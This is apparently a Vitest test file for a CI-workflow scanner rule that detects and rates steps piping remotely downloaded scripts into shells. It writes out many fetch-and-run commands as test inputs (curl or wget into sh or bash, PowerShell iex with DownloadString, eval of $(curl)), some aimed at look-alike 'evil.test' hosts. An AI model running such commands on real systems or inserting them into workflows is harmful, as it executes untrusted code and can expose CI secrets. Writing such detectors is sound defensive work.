import { describe, expect, it } from 'vitest';
import { vendorInstaller, VENDOR_INSTALLERS } from '../../../../lib/engine/data/installers.js';
import { hitSeverity, remoteScriptRuns } from '../../../../lib/engine/rules/pipe-to-shell.js';
import { positions, recordsWith, scanWith, yaml } from '../../../support/engine.js';

const RULE = 'pipe-to-shell';

function forms(script: string): string[] {
  return remoteScriptRuns(script).map((h) => h.form);
}

describe(RULE, () => {
  it('recognises the pipe, process-substitution and command-substitution forms', () => {
    expect(forms('curl -fsSL https://x.test/i.sh | sh')).toEqual(['curl … | sh']);
    expect(forms('wget -qO- https://x.test/i.sh | sudo -E bash -s -- -y')).toEqual(['wget … | bash']);
    expect(forms('curl -sL https://x.test/get.py | python3 -')).toEqual(['curl … | python3']);
    expect(forms('irm https://get.scoop.sh | iex')).toEqual(['irm … | iex']);
    expect(forms('(iwr https://x.test/i.ps1).Content | Invoke-Expression')).toEqual(['iwr … | Invoke-Expression']);
    expect(forms('bash <(curl -s https://x.test/i.sh)')).toEqual(['bash <(…)']);
    expect(forms('sh -c "$(curl -fsSL https://x.test/i.sh)"')).toEqual(['sh "$(…)"']);
    expect(forms('eval "$(wget -qO- https://x.test/env)"')).toEqual(['eval "$(…)"']);
    expect(forms("iex ((New-Object System.Net.WebClient).DownloadString('https://x.test/i.ps1'))")).toEqual(['iex (…)']);
    expect(forms("sudo sh -c 'curl -fsSL https://x.test/i.sh | bash'")).toEqual(['curl … | bash']);
  });

  it('reads a here-document that cat reads into a variable no later line runs as text, not as commands', () => {
    const body = ['NOTES=$(cat <<\'EOF\'', 'Install with:', 'curl -fsSL https://x.test/i.sh | sh', 'EOF', ')'].join('\n');
    expect(forms(`${body}\ngh release create v1 --notes "$NOTES"`)).toEqual([]);
    // Negative: run by `eval`, or piped to a shell, the same body is a script.
    expect(forms(`${body}\neval "$NOTES"`)).toEqual(['curl … | sh']);
    expect(forms(`${body}\necho "$NOTES" | bash`)).toEqual(['curl … | sh']);
  });

  it('names the whole URL when an unquoted expression in it holds spaces (`https://${{ vars.HOST }}/i.sh`)', () => {
    const urls = (script: string) => remoteScriptRuns(script).map((h) => h.url);
    expect(urls('curl -fsSL https://${{ vars.RELEASE_HOST }}/tools/install.sh | bash')).toEqual(['https://${{ vars.RELEASE_HOST }}/tools/install.sh']);
    expect(urls('curl -fsSL https://x.test/${{ env.VERSION }}/i.sh | sh')).toEqual(['https://x.test/${{ env.VERSION }}/i.sh']);
    // negative: a URL without an expression, or with one without spaces, reads as before.
    expect(urls('curl -fsSL https://x.test/i.sh | sh')).toEqual(['https://x.test/i.sh']);
    expect(urls('curl -fsSL https://x.test/${{env.V}}/i.sh | sh')).toEqual(['https://x.test/${{env.V}}/i.sh']);
  });

  it('does not report interpreters that take their program from an argument, or local URLs', () => {
    expect(forms('curl -s https://api.test/v | python3 -c "import json,sys; print(json.load(sys.stdin))"')).toEqual([]);
    expect(forms('curl -s https://api.test/v | python -m json.tool')).toEqual([]);
    expect(forms('curl -s https://x.test/data | node -e "process.stdin.pipe(process.stdout)"')).toEqual([]);
    expect(forms('curl -s https://x.test/list | perl -pe "s/a/b/"')).toEqual([]);
    expect(forms('curl -s https://x.test/list | bash ./process.sh')).toEqual([]);
    expect(forms('curl -s http://localhost:8080/setup.sh | sh')).toEqual([]);
    expect(forms('curl -fsSL https://x.test/a.tar.gz | tar xz')).toEqual([]);
    expect(forms('VERSION=$(curl -s https://x.test/latest | jq -r .tag)')).toEqual([]);
    expect(forms('echo "curl https://x.test | sh"')).toEqual([]);
  });

  it('reports at the pipeline inside a multi-line script, bound to the job', () => {
    const records = recordsWith(RULE, yaml`
      on: push
      jobs:
        setup:
          runs-on: ubuntu-latest
          steps:
            - name: Install
              run: |
                set -eu
                curl -fsSL https://x.test/install.sh | bash
                echo done && wget -qO- https://x.test/b.sh | sh
    `);
    expect(positions(records.map((r) => r.finding))).toEqual(['9:11 LOW', '10:24 LOW']);
    // The job declares no `permissions:` and references no secret: a swapped script changes only this run.
    expect(records[0]?.finding.description).toContain('The job holds no write scope that changes code, releases or packages, no secret, OIDC token, self-hosted machine or publish');
    expect(records.map((r) => r.job)).toEqual(['setup', 'setup']);
    expect(records[0]?.finding.description).toContain('`https://x.test/install.sh`');
    expect(records[0]?.finding.description).toContain('step `Install`');
  });

  it('reports in composite actions and one-line scripts', () => {
    const records = recordsWith(RULE, [
      { path: 'action.yml', text: 'runs:\n  using: composite\n  steps:\n    - run: curl -sSf https://x.test/i.sh | sudo sh -s -- -y\n      shell: bash\n' },
    ]);
    expect(positions(records.map((r) => r.finding))).toEqual(['4:12 HIGH']);
    expect(records[0]?.job).toBeNull();
  });

  it('judges a composite action\'s step at the jobs that call it', () => {
    const action = { path: '.github/actions/tools/action.yml', text: 'runs:\n  using: composite\n  steps:\n    - run: curl -sSf https://x.test/i.sh | sh\n      shell: bash\n' };
    const caller = (permissions: string) => ({
      path: '.github/workflows/ci.yml',
      text: `on: push\npermissions: ${permissions}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./.github/actions/tools\n`,
    });
    const low = scanWith(RULE, [action, caller('{ contents: read }')]);
    expect(positions(low)).toEqual(['4:12 LOW']);
    expect(low[0]?.description).toContain('The jobs that run this action hold no write scope');
    expect(positions(scanWith(RULE, [action, caller('{ contents: write }')]))).toEqual(['4:12 MEDIUM']);
    // No caller here: an action kept under `.github/` reaches no job's holdings (LOW, saying so); one published
    // elsewhere in the repository runs in other repositories' jobs, whose holdings are not known (MEDIUM).
    const uncalled = scanWith(RULE, [action]);
    expect(positions(uncalled)).toEqual(['4:12 LOW']);
    expect(uncalled[0]?.description).toContain('No workflow here runs this action, kept under `.github/`');
    expect(positions(scanWith(RULE, [{ ...action, path: 'tools/action.yml' }]))).toEqual(['4:12 MEDIUM']);
  });

  it('rates a well-known vendor installer over HTTPS LOW, and says why', () => {
    const findings = scanWith(RULE, yaml`
      on: push
      jobs:
        setup:
          runs-on: ubuntu-latest
          steps:
            - run: curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y
            - run: curl -LsSf https://astral.sh/uv/install.sh | sh
            - run: curl -fsSL https://bun.sh/install | bash
            - run: curl -fsSL https://deno.land/install.sh | sh
            - run: curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash
    `);
    expect(findings.map((f) => f.severity)).toEqual(['LOW', 'LOW', 'LOW', 'LOW', 'LOW']);
    expect(findings[0]?.description).toContain("LOW: it is the official rustup installer, served over HTTPS from the vendor's own host `sh.rustup.rs`");
    expect(findings[0]?.description).toContain('Pinning a version with a committed checksum is the hardening.');
  });

  it("rates a vendor's bootstrap installer on its own host LOW in a job that holds secrets, found by the table or by its host named after the tool", () => {
    const job = (script: string, extra = '') =>
      [
        'on: push',
        'permissions:',
        '  contents: write',
        ...extra.split('\n').filter((l) => l !== ''),
        'jobs:',
        '  release:',
        '    runs-on: ubuntu-latest',
        '    env:',
        '      TOKEN: ${{ secrets.RELEASE_TOKEN }}',
        '    steps:',
        `      - run: ${script}`,
        '',
      ].join('\n');
    const rated = (script: string, extra = '') => scanWith(RULE, job(script, extra)).map((f) => f.severity);
    for (const script of [
      'curl --proto "=https" -sSf https://sh.rustup.rs | sh -s -- -y',
      'curl -LsSf https://astral.sh/uv/install.sh | sh',
      'curl -fsSL https://bun.sh/install | bash',
      'curl -fsSL https://deno.land/install.sh | sh',
      'curl -fsSL https://get.pnpm.io/install.sh | sh -',
      'curl -sSL https://install.python-poetry.org | python3 -',
      'bash -c "$(wget -O - https://apt.llvm.org/llvm.sh)"',
      'curl https://rustwasm.github.io/wasm-pack/installer/init.sh -sSf | sh',
      'curl https://raw.githubusercontent.com/habitat-sh/habitat/main/components/hab/install.sh | sudo -E bash -s -- -t aarch64-darwin',
      'curl -fsSL --retry 5 https://rclone.org/install.sh | sudo bash',
      // No table entry: the installer's file names the tool and the host (or repository) is named after it.
      'curl -fsSL https://get.exampletool.dev/exampletool-install.sh | sh',
      'curl -fsSL https://raw.githubusercontent.com/acme/widget/HEAD/install-widget.sh | sh',
    ]) {
      expect(rated(script), script).toEqual(['LOW']);
    }
    // The URL read through the workflow's env, PowerShell's form too.
    expect(rated('curl -sSf "$INSTALLER" | sh', 'env:\n  INSTALLER: https://sh.rustup.rs')).toEqual(['LOW']);
    expect(rated('iex ((New-Object Net.WebClient).DownloadString("${env:INSTALLER}"))', 'env:\n  INSTALLER: https://deno.land/install.ps1')).toEqual(['LOW']);
    expect(rated('curl -sSf "$INSTALLER" | sh', 'env:\n  INSTALLER: https://example.test/install.sh')).toEqual(['MEDIUM']);
    // Another site on the same Pages host is not the tool's installer, nor another file of the same repository.
    expect(rated('curl -sSf https://rustwasm.github.io/other-tool/init.sh | sh')).toEqual(['MEDIUM']);
    expect(rated('curl -sSf https://raw.githubusercontent.com/habitat-sh/habitat/main/support/setup.sh | sh')).toEqual(['MEDIUM']);
    const text = scanWith(RULE, job('curl -fsSL https://get.exampletool.dev/exampletool-install.sh | sh'))[0]?.description ?? '';
    expect(text).toContain("official exampletool installer, served over HTTPS from the vendor's own host `get.exampletool.dev`");
    const repo = scanWith(RULE, job('curl -fsSL https://raw.githubusercontent.com/acme/widget/HEAD/install-widget.sh | sh'))[0]?.description ?? '';
    expect(repo).toContain("official widget installer, served over HTTPS from the tool's own repository `acme/widget` on GitHub: whoever controls it controls the widget the job then runs");
  });

  it('is LOW for a script of a GitHub repository at a full commit SHA (its content cannot change), MEDIUM at a branch or tag', () => {
    const job = (script: string) =>
      scanWith(RULE, ['on: push', 'permissions:', '  contents: write', 'jobs:', '  release:', '    runs-on: ubuntu-latest', '    env:', '      TOKEN: ${{ secrets.RELEASE_TOKEN }}', '    steps:', `      - run: ${script}`, ''].join('\n'));
    const sha = '4f411281417e88660bea1c1a1749aa71ae0bd60f';
    for (const pinned of [`curl -s https://raw.githubusercontent.com/some-org/tool/${sha}/install.sh | sudo bash`, `curl -sL https://github.com/some-org/tool/raw/${sha}/scripts/get.sh | sh`]) {
      const found = job(pinned);
      expect(found.map((f) => f.severity), pinned).toEqual(['LOW']);
      expect(found[0]?.description, pinned).toContain(`of \`some-org/tool\` at commit \`${sha.slice(0, 12)}\``);
    }
    for (const moving of ['curl -s https://raw.githubusercontent.com/some-org/tool/main/install.sh | bash', 'curl -s https://raw.githubusercontent.com/some-org/tool/4f41128/install.sh | bash']) {
      expect(job(moving).map((f) => f.severity), moving).toEqual(['MEDIUM']);
    }
  });

  it('negative: an installer from a host that is not the tool\'s vendor stays MEDIUM in a job that holds secrets', () => {
    const job = (script: string) =>
      ['on: push', 'permissions:', '  contents: write', 'jobs:', '  release:', '    runs-on: ubuntu-latest', '    env:', '      TOKEN: ${{ secrets.RELEASE_TOKEN }}', '    steps:', `      - run: ${script}`, ''].join('\n');
    for (const script of [
      // A gist, someone's repository, a mirror, a CDN: not the tool's own host.
      'curl -fsSL https://gist.githubusercontent.com/someone/abc123/raw/rustup-init.sh | sh',
      'curl -fsSL https://raw.githubusercontent.com/someone/dotfiles/main/install-rustup.sh | sh',
      'curl -fsSL https://mirror.example.org/rustup/rustup-init.sh | sh',
      'curl -fsSL https://cdn.jsdelivr.net/gh/someone/uv/install-uv.sh | sh',
      // A host named after the tool, but a file that names no tool, or another tool.
      'curl -fsSL https://exampletool.dev/install.sh | sh',
      'curl -fsSL https://exampletool.dev/othertool-install.sh | sh',
      // A look-alike host: the registered name is `evil`, not `rustup`.
      'curl -fsSL https://rustup.evil.test/rustup-init.sh | sh',
    ]) {
      expect(scanWith(RULE, job(script)).map((f) => f.severity), script).toEqual(['MEDIUM']);
    }
    // Over plain HTTP the network decides what arrives, the vendor's host or not.
    expect(scanWith(RULE, job('curl -fsSL http://win.rustup.rs/rustup-init.sh | sh')).map((f) => f.severity)).toEqual(['HIGH']);
  });

  it('keeps plain HTTP and sudo of an arbitrary host HIGH, and an arbitrary HTTPS host MEDIUM', () => {
    const severities = (script: string) => remoteScriptRuns(script).map((h) => hitSeverity(h).severity);
    expect(severities('curl -fsSL http://sh.rustup.rs | sh')).toEqual(['HIGH']);
    expect(severities('curl -fsSL http://x.test/i.sh | sh')).toEqual(['HIGH']);
    expect(severities('curl -fsSL https://x.test/i.sh | sudo bash')).toEqual(['HIGH']);
    expect(severities('sudo bash -c "$(curl -fsSL https://x.test/i.sh)"')).toEqual(['HIGH']);
    expect(severities('curl -fsSL https://x.test/i.sh | bash')).toEqual(['MEDIUM']);
    expect(severities('curl -fsSL "$URL" | bash')).toEqual(['MEDIUM']);
    // A vendor installer stays LOW even with sudo: root on the runner adds nothing the vendor did not have.
    expect(severities('curl -fsSL https://get.docker.com | sudo sh')).toEqual(['LOW']);
  });

  it("is LOW for a script of the repository's own owner or of GitHub over HTTPS; another account's stays MEDIUM", () => {
    const workflow = (url: string) => yaml`
      on: push
      permissions: { contents: write }
      jobs:
        docs:
          runs-on: ubuntu-latest
          steps:
            - run: curl -sfL ${url} | bash -s -- -b $HOME/bin
    `;
    const own = scanWith(RULE, workflow('https://raw.githubusercontent.com/acme-labs/doc-tool/master/godownloader.sh'), { repository: 'acme-labs/widget' });
    expect(own.map((f) => f.severity)).toEqual(['LOW']);
    expect(own[0]?.description).toContain("LOW: it is served from the repository owner's repository `acme-labs/doc-tool` on GitHub over HTTPS");
    expect(scanWith(RULE, workflow('https://raw.githubusercontent.com/actions/toolkit/main/install.sh'), { repository: 'acme-labs/widget' }).map((f) => f.severity)).toEqual(['LOW']);
    // Negative: another account's script, plain HTTP to the owner's own content, and no known identity.
    expect(scanWith(RULE, workflow('https://raw.githubusercontent.com/other-labs/doc-tool/master/godownloader.sh'), { repository: 'acme-labs/widget' }).map((f) => f.severity)).toEqual(['MEDIUM']);
    // An organisation named after the owner (`acme-labs-tools`) is, by its name, the owner's: LOW, saying so.
    const sibling = scanWith(RULE, workflow('https://raw.githubusercontent.com/acme-labs-tools/doc-tool/master/godownloader.sh'), { repository: 'acme-labs/widget' });
    expect(sibling.map((f) => f.severity)).toEqual(['LOW']);
    expect(sibling[0]?.description).toContain("an organisation of this repository's owner `acme-labs`");
    expect(scanWith(RULE, workflow('http://raw.githubusercontent.com/acme-labs/doc-tool/master/godownloader.sh'), { repository: 'acme-labs/widget' }).map((f) => f.severity)).toEqual(['HIGH']);
    expect(scanWith(RULE, workflow('https://raw.githubusercontent.com/acme-labs/doc-tool/master/godownloader.sh')).map((f) => f.severity)).toEqual(['MEDIUM']);
  });

  it('is HIGH over plain HTTP where the job holds or supplies something, saying what; MEDIUM in a job that holds nothing', () => {
    const workflow = (permissions: string, env = '') => yaml`
      on: pull_request
      permissions: ${permissions}
      jobs:
        test:
          runs-on: ubuntu-latest
          steps:
            - run: curl -sfL http://get.example.io/ | sudo sh -s -- -b /usr/local/bin
              ${env}
    `;
    const bare = scanWith(RULE, workflow('read-all'));
    expect(bare.map((f) => f.severity)).toEqual(['MEDIUM']);
    expect(bare[0]?.description).toContain('so the swapped script runs with nothing worth taking beyond this run');
    const held = scanWith(RULE, workflow('read-all', 'env: { NPM_TOKEN: "${{ secrets.NPM_TOKEN }}" }'));
    expect(held.map((f) => f.severity)).toEqual(['HIGH']);
    expect(held[0]?.description).toContain('HIGH: the job holds secret `NPM_TOKEN`');
  });

  it("reports nothing for this repository's own script at the run's commit or a fixed one (its own code), through env variables too", () => {
    const workflow = (url: string) => yaml`
      on: pull_request
      env:
        REPO: \${{ github.repository }}
        REV: \${{ github.sha }}
      jobs:
        test:
          runs-on: ubuntu-latest
          env:
            TOKEN: \${{ secrets.TOKEN }}
          steps:
            - run: curl -fsSL "${url}" | bash
    `;
    const scan = (url: string) => scanWith(RULE, workflow(url), { repository: 'acme-labs/widget' }).map((f) => f.severity);
    expect(scan('https://raw.githubusercontent.com/${REPO}/${REV}/install.sh')).toEqual([]);
    expect(scan('https://raw.githubusercontent.com/${{ github.repository }}/${{ github.sha }}/install.sh')).toEqual([]);
    expect(scan('https://github.com/acme-labs/widget/raw/4f411281417e88660bea1c1a1749aa71ae0bd60f/install.sh')).toEqual([]);
    // At a branch it stays (LOW: the repository's own); another account's at the run's SHA names no commit of theirs.
    expect(scan('https://raw.githubusercontent.com/acme-labs/widget/main/install.sh')).toEqual(['LOW']);
    expect(scan('https://raw.githubusercontent.com/other-labs/widget/${REV}/install.sh')).toEqual(['MEDIUM']);
  });

  it('takes root as an escalation only where the runner may outlive the job (minikube functional_test on macOS)', () => {
    const workflow = (runsOn: string, matrix = '') => yaml`
      on: pull_request
      jobs:
        test:
          runs-on: ${runsOn}
${matrix}
          steps:
            - run: curl -fsSL https://github.com/o/helper/releases/latest/download/install.sh | sudo bash
    `;
    const hosted = scanWith(RULE, workflow('macos-latest'));
    expect(hosted.map((f) => f.severity)).toEqual(['LOW']);
    expect(hosted[0]?.description).toContain('It runs as root, but only on runners made for one job (GitHub-hosted');
    // A VM made for the job from the image its labels name keeps nothing either.
    expect(scanWith(RULE, workflow('[self-hosted, macOS, ghcr.io/example-org/macos-sequoia:16]')).map((f) => f.severity)).toEqual(['LOW']);
    const matrix = '          strategy:\n            matrix:\n              os: [ubuntu-latest, macos-14]';
    expect(scanWith(RULE, workflow('${{ matrix.os }}', matrix)).map((f) => f.severity)).toEqual(['LOW']);
    // A runner that may be self-hosted, or one the workflow does not tell: root can persist, HIGH.
    expect(scanWith(RULE, workflow('[self-hosted, macos]')).map((f) => f.severity)).toEqual(['HIGH']);
    expect(scanWith(RULE, workflow('build-farm')).map((f) => f.severity)).toEqual(['HIGH']);
    expect(scanWith(RULE, workflow('${{ inputs.runner }}')).map((f) => f.severity)).toEqual(['HIGH']);
    expect(scanWith(RULE, workflow('${{ matrix.os }}', '          strategy:\n            matrix:\n              os: [ubuntu-latest, self-hosted]')).map((f) => f.severity)).toEqual(['HIGH']);
    // A composite action runs on its caller's runner, which it cannot know.
    const action = scanWith(RULE, [{ path: 'action.yml', text: 'runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: curl -fsSL https://x.test/i.sh | sudo bash\n' }]);
    expect(action.map((f) => f.severity)).toEqual(['HIGH']);
  });

  it('matches vendor installers by host and path prefix, never by a look-alike host', () => {
    expect(vendorInstaller('https://sh.rustup.rs')).toBe('rustup');
    expect(vendorInstaller('https://astral.sh/uv/0.11.3/install.sh')).toBe('uv');
    expect(vendorInstaller('https://sh.rustup.rs.evil.test/x')).toBeNull();
    expect(vendorInstaller('https://evil.test/sh.rustup.rs')).toBeNull();
    expect(vendorInstaller('https://astral.sh/other/install.sh')).toBeNull();
    expect(vendorInstaller('http://sh.rustup.rs')).toBeNull();
    // A listed shell installer's Windows sibling at the same path is the same vendor's script; another file is not.
    expect(vendorInstaller('https://claude.ai/install.ps1')).toBe('Claude Code');
    expect(vendorInstaller('https://claude.ai/install.cmd')).toBe('Claude Code');
    expect(vendorInstaller('https://claude.ai/other.ps1')).toBeNull();
    expect(vendorInstaller('https://evil.test/install.ps1')).toBeNull();
    expect(vendorInstaller(null)).toBeNull();
    // NodeSource's setup scripts, served from the host of the packages they add; not another path of that host.
    expect(vendorInstaller('https://deb.nodesource.com/setup_20.x')).toBe('Node.js (NodeSource packages)');
    expect(vendorInstaller('https://deb.nodesource.com/gpgkey/nodesource.gpg.key')).toBeNull();
    expect(vendorInstaller('https://htmltest.wjdp.uk')).toBe('htmltest');
    // Every table entry is a scheme-less lower-case prefix that matches itself.
    for (const { prefix } of VENDOR_INSTALLERS) {
      expect(prefix).toBe(prefix.toLowerCase());
      expect(vendorInstaller(`https://${prefix}`), prefix).not.toBeNull();
    }
  });

  it('honours a suppression comment on the script line', () => {
    expect(scanWith(RULE, yaml`
      on: push
      jobs:
        setup:
          runs-on: ubuntu-latest
          steps:
            - run: |
                curl -fsSL https://x.test/install.sh | bash # chainbreaker: ignore[pipe-to-shell]
    `)).toEqual([]);
  });

  it('does not throw on odd shapes', () => {
    expect(scanWith(RULE, yaml`
      on: push
      jobs:
        a:
          runs-on: ubuntu-latest
          steps:
            - run: 42
            - run:
            - run: { curl: sh }
            - run: "curl | | sh ((( $( \`"
    `)).toEqual([]);
  });
  describe('option trusted-hosts', () => {
    const workflow = yaml`
      on: push
      jobs:
        setup:
          runs-on: [self-hosted, linux]
          steps:
            - run: curl -fsSL https://install.acme.test/cli.sh | bash
            - run: curl -fsSL https://cdn.tools.acme.test/x.sh | sudo sh
            - run: curl -fsSL http://install.acme.test/cli.sh | bash
            - run: curl -fsSL https://install.acme.test.evil.test/cli.sh | bash
            - run: curl -fsSL https://acme.test/cli.sh | bash
    `;

    it('reports every host by default', () => {
      expect(positions(scanWith(RULE, workflow))).toEqual(['6:14 MEDIUM', '7:14 HIGH', '8:14 HIGH', '9:14 MEDIUM', '10:14 MEDIUM']);
    });

    it('skips HTTPS scripts of a trusted host and the subdomains of a *. entry, nothing else', () => {
      const findings = scanWith(RULE, workflow, { ruleOptions: { [RULE]: { 'trusted-hosts': ['Install.Acme.Test', '*.acme.test'] } } });
      // Plain HTTP stays (the network, not the host, decides what arrives); a look-alike host and the apex of *.acme.test stay.
      expect(positions(findings)).toEqual(['8:14 HIGH', '9:14 MEDIUM', '10:14 MEDIUM']);
      expect(findings[0]?.description).toContain('http://install.acme.test');
    });

    it('an empty list changes nothing', () => {
      expect(scanWith(RULE, workflow, { ruleOptions: { [RULE]: { 'trusted-hosts': [] } } })).toHaveLength(5);
    });
  });
});
